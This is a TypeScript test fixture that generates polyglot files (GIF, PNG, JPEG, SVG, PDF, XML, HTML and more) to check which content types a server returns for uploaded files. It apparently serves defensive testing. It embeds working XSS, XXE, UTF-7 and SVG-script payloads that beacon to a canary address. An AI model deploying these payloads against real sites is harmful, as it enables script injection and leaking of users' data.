import { encodeBytes } from "#contract/byteText.ts";
import { pngOf } from "./pictures.ts";

/**
 * A file that different programs take for different types. Its payloads would contact a canary address if they ran or
 * loaded.
 */
export interface Polyglot {
  /** Its name in the repository, which often has a wrong extension. */
  readonly path: string;
  readonly content: Buffer;
  /** The expected content type of the response. */
  readonly type: string;
  /** The expected content type of the response to a request for an image, if that is different. */
  readonly imageType?: string;
}

const TEXT = "text/plain; charset=utf-8";
const BYTES = "application/octet-stream";
const SVG = "image/svg+xml";

const latin1 = (text: string): Buffer => Buffer.from(text, "latin1");
const utf8 = (text: string): Buffer => Buffer.from(encodeBytes(text));

/** Returns 48 polyglots whose payloads would request `canary`, an address, in every possible way. */
export function polyglots(canary: string): readonly Polyglot[] {
  const of = (name: string): string => `${canary}?${name}`;
  const run = (name: string): string =>
    `new Image().src='${of(name)}';fetch('${of(name)}',{mode:'no-cors'});navigator.sendBeacon('${of(name)}')`;
  const script = (name: string): string => `<script>${run(name)}</script>`;
  const html = (name: string): string =>
    `<!doctype html><html><body onload="${run(name)}">${script(name)}<img src="${of(name)}"><img src=x onerror="${run(name)}">` +
    `<link rel=stylesheet href="${of(name)}"><iframe src="${of(name)}"></iframe></body></html>`;
  const svg = (inside: string, more = ""): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${more}>${inside}</svg>`;
  const one = (path: string, content: Buffer, type: string, imageType?: string): Polyglot => ({
    path,
    content,
    type,
    ...(imageType !== undefined && { imageType }),
  });
  const text = (path: string, content: string): Polyglot => one(path, utf8(content), TEXT);
  const drawing = (path: string, content: string): Polyglot => one(path, utf8(content), TEXT, SVG);
  const bytes = (path: string, content: Buffer): Polyglot => one(path, content, BYTES);
  const png = (behind: string): Buffer => pngOf(1, 1, () => [255, 0, 0, 255], behind);
  const iconHead = Buffer.from([0, 0, 1, 0, 1, 0, 1, 1, 0, 0, 1, 0, 32, 0, 40, 0, 0, 0, 22, 0, 0, 0]);
  const bitmapHead = Buffer.concat([latin1("BM"), Buffer.alloc(12), Buffer.from([40, 0, 0, 0]), Buffer.alloc(36)]);

  return [
    one("gif-is-js.gif", latin1(`GIF89a=0;${run("gif-js")}`), "image/gif"),
    one("gif-is-js.js", latin1(`GIF89a/*${"\0".repeat(9)}*/=0;${run("gif-js2")}`), "image/gif"),
    one("gif87.html", latin1(`GIF87a${html("gif87")}`), "image/gif"),
    one("gif-then-html.gif", latin1(`GIF89a\x01\0\x01\0\0\0\0;${html("gif-html")}`), "image/gif"),
    one("png-then-html.png", png(html("png-html")), "image/png"),
    one("png.html", png(html("png-named-html")), "image/png"),
    one("png-then-js.js", png(`;${run("png-js")}`), "image/png"),
    one("jpeg-comment.jpg", latin1(`\xFF\xD8\xFF\xFE\x10\x10${html("jpeg")}\xFF\xD9`), "image/jpeg"),
    one("jpeg.html", latin1(`\xFF\xD8\xFF\xE0/*\x4A\x46IF*/=1;${html("jpeg2")}`), "image/jpeg"),
    one("bmp-is-js.js", Buffer.concat([bitmapHead, latin1(`*/=1;${run("bmp")}`)]), "image/bmp"),
    one("webp.html", latin1(`RIFF\x20\0\0\0WEBPVP8 ${html("webp")}`), "image/webp"),
    one("icon.html", Buffer.concat([iconHead, latin1(html("icon"))]), "image/x-icon"),
    one("avif.html", latin1(`\0\0\0\x1Cftypavif\0\0\0\0${html("avif")}`), "image/avif"),
    text("page.png", html("html-png")),
    text("page.jpg", html("html-jpg")),
    text("page.gif", html("html-gif")),
    text("page.svg", html("html-svg")),
    text("page.html", html("html")),
    text("page.hta", html("hta")),
    text("marked.html", `\uFEFF${html("marked")}`),
    text("late.html", `${" ".repeat(9000)}${html("late")}`),
    text("comment.html", `<!--${"-".repeat(600)}-->${html("comment")}`),
    text("refresh.html", `<meta http-equiv=refresh content="0;url=${of("refresh")}">`),
    text(
      "base.html",
      `<base href="${of("base")}"><object data="${of("object")}"></object><embed src="${of("embed")}">`,
    ),
    text("page.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><body>${script("xhtml")}</body></html>`),
    text("utf7.html", `+ADw-script+AD4-${run("utf7")}+ADw-/script+AD4-`),
    text("json.json", `{"a":"${html("json").replaceAll('"', "'")}"}`),
    text("script.js", run("js")),
    text("style.css", `@import url(${of("css")});*{background:url(${of("css2")})}`),
    text("sheet.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${of("xslt")}"?><a/>`),
    text("entity.xml", `<!DOCTYPE a [<!ENTITY e SYSTEM "${of("entity")}">]><a>&e;</a>`),
    text(
      "archive.mhtml",
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html("mhtml")}\r\n--b--`,
    ),
    text("mixed.png", `--b\r\nContent-Type: text/html\r\n\r\n${html("replace")}\r\n--b--`),
    text("paper.pdf", `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${run("pdf")})>>>>endobj\n${html("pdf-html")}`),
    text("manifest.appcache", `CACHE MANIFEST\n${of("cache")}\n`),
    drawing("script.svg", svg(script("svg-script"))),
    drawing("script.png", svg(script("svg-png"))),
    drawing("onload.svg", svg("", ` onload="${run("svg-onload")}"`)),
    drawing(
      "foreign.svg",
      svg(
        `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${script("foreign")}<img src="${of("foreign")}"/></body></foreignObject>`,
      ),
    ),
    drawing(
      "loads.svg",
      svg(
        `<image href="${of("svg-image")}"/><use xlink:href="${of("svg-use")}#a"/><filter id="f"><feImage href="${of("fe")}"/></filter>`,
      ),
    ),
    drawing(
      "styled.svg",
      svg(`<style>@import url(${of("svg-import")});rect{fill:url(${of("svg-fill")})}</style><rect/>`),
    ),
    drawing("sheet.svg", `<?xml version="1.0"?><?xml-stylesheet href="${of("svg-sheet")}"?>${svg("")}`),
    drawing("typed.svg", `<!DOCTYPE svg [<!ENTITY e SYSTEM "${of("svg-entity")}">]>${svg("<text>&e;</text>")}`),
    drawing(
      "moved.svg",
      svg(
        `<a xlink:href="javascript:${run("svg-a")}"><animate attributeName="href" values="javascript:${run("svg-animate")}"/></a><set attributeName="onmouseover" to="${run("set")}"/>`,
      ),
    ),
    bytes("wide-le.html", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(html("utf16"), "utf16le")])),
    bytes("wide-be.html", Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(html("utf16be"), "utf16le").swap16()])),
    bytes("nul.html", latin1(`\0${html("nul")}`)),
    bytes("jar.png", latin1(`PK\x03\x04\x14\0\0\0${html("jar")}`)),
  ];
}
